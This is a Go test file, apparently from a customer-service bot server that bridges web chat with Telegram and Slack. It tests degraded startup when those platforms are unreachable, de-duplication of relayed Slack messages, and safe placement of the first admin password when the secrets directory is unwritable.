func TestSecurityDegradedStart(t *testing.T) {
	defer func(d time.Duration) { platformRetryMax = d }(platformRetryMax)
	platformRetryMax = time.Second
	f := telegramtest.NewServer(t)
	target, _ := url.Parse(f.URL)
	proxy := httputil.NewSingleHostReverseProxy(target)
	var open atomic.Bool
	gate := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if !open.Load() { // unreachable: the connection drops without an answer
			if c, _, err := w.(http.Hijacker).Hijack(); err == nil {
				c.Close()
			}
			return
		}
		proxy.ServeHTTP(w, r)
	}))
	defer gate.Close()
	dead, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	deadURL := "http://" + dead.Addr().String() + "/api/"
	dead.Close()

	s := startJourneyServer(t, dsnSQLite(t), map[string]string{
		"KEFU_TELEGRAM_TOKEN":       telegramtest.Token,
		"KEFU_TELEGRAM_API_URL":     gate.URL,
		"KEFU_SLACK_BOT_TOKEN":      slacktest.BotToken,
		"KEFU_SLACK_SIGNING_SECRET": slackSecret,
		"KEFU_SLACK_API_URL":        deadURL,
	}, func(c *Config) { c.Slack.Agents = []string{slackAgent1} })
	sess := s.session()
	contains(t, s.say(sess, nil, "你好"), "云朵家电")

	readyz := func() string {
		resp, err := http.Get(s.url + "/readyz")
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("/readyz %d: %s", resp.StatusCode, b)
		}
		return string(b)
	}
	waitWithin(t, 10*time.Second, "/readyz to report both platforms unreachable", func() bool {
		r := readyz()
		return strings.Contains(r, "telegram: unreachable") && strings.Contains(r, "slack: unreachable")
	})

	open.Store(true)
	waitWithin(t, 25*time.Second, "Telegram to be connected in the background", func() bool {
		return !strings.Contains(readyz(), "telegram: unreachable")
	})
	if !strings.Contains(readyz(), "slack: unreachable") {
		t.Errorf("slack is still unreachable but /readyz says:\n%s", readyz())
	}
	// The Bot API client's long poll ignores cancellation; drop the proxied connections so the
	// server stops at once.
	go func() { time.Sleep(200 * time.Millisecond); gate.CloseClientConnections() }()
	s.stop()
}

// TestSecurityRelayOnceMarker (finding 11, Slack part): the thread relay's de-dup marker commits in
// the reply's own transaction (bot.WithOnce), so a redelivery finds it whenever the reply exists:
// the second relay of the same Slack message does nothing.
func TestSecurityRelayOnceMarker(t *testing.T) {
	s, _ := securityServer(t, nil)
	sess, no := handoff(t, s.e2eServer, "洗衣机不转了")
	cfg, err := loadConfig("", func(k string) string {
		if k == "KEFU_DATABASE_URL" {
			return s.dbURL
		}
		return ""
	})
	if err != nil {
		t.Fatal(err)
	}
	a, err := openApp(context.Background(), cfg, slog.New(slog.DiscardHandler), nil)
	if err != nil {
		t.Fatal(err)
	}
	defer a.Close()
	const text = "师傅明天上午上门（转发一次）"
	ctx := bot.WithOnce(context.Background(), "slack:msg:C1:1763888500.000100")
	if _, err := a.engine.Reply(ctx, bot.Actor{ID: "cli:alice", Name: "alice"}, no, text); err != nil {
		t.Fatal(err)
	}
	if _, done, _ := s.db.GetKV(context.Background(), "slack:msg:C1:1763888500.000100"); !done {
		t.Error("the marker was not recorded with the reply")
	}
	if _, err := a.engine.Reply(ctx, bot.Actor{ID: "cli:alice", Name: "alice"}, no, text); !errors.Is(err, bot.ErrDuplicate) {
		t.Fatalf("second relay of the same message: %v, want ErrDuplicate", err)
	}
	s.poll(sess, 0, text)
	if n := strings.Count(strings.Join(s.outboxTexts(t, bot.ChannelWeb, sess), "\n"), text); n != 1 {
		t.Errorf("the customer got the reply %d times, want once", n)
	}
}

// TestSecurityFirstAdminPasswordUnwritableKeyDir: the encryption key is a secret in a directory kefu
// cannot write (the compose file's /run/secrets: a bind mount, owned by root); the first start still
// comes up and writes the generated password, mode 0600, to the data directory instead, and the banner
// says where. (A directory in the way stands for the unwritable one: the tests run as root.)
func TestSecurityFirstAdminPasswordUnwritableKeyDir(t *testing.T) {
	secrets := t.TempDir()
	key := filepath.Join(secrets, "encryption_key")
	if err := os.WriteFile(key, []byte(storage.GenerateKey()+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.MkdirAll(filepath.Join(secrets, initialPasswordFile, "x"), 0o700); err != nil {
		t.Fatal(err)
	}
	t.Setenv("KEFU_ENCRYPTION_KEY", "")
	t.Setenv("KEFU_ENCRYPTION_KEY_FILE", key)
	s, logs, banner := securityServerBanner(t, func(c *Config) { c.Log.Format = "json" })
	m := regexp.MustCompile(`the password is in (\S+) `).FindStringSubmatch(banner.String())
	if m == nil {
		t.Fatalf("the banner does not say where the password is: %q", banner.String())
	}
	want, _ := filepath.Abs(filepath.Join(filepath.Dir(s.dbURL), initialPasswordFile))
	if m[1] != want {
		t.Errorf("password file %s; want %s (the data directory)", m[1], want)
	}
	st, err := os.Stat(m[1])
	if err != nil || st.Mode().Perm() != 0o600 {
		t.Fatalf("password file: %v %v", st, err)
	}
	lines := strings.Fields(mustRead(t, m[1]))
	if len(lines) != 2 || lines[0] != "admin" || strings.Contains(logs.String(), lines[1]) {
		t.Fatalf("password file %q (or the password reached the log)", lines)
	}
}
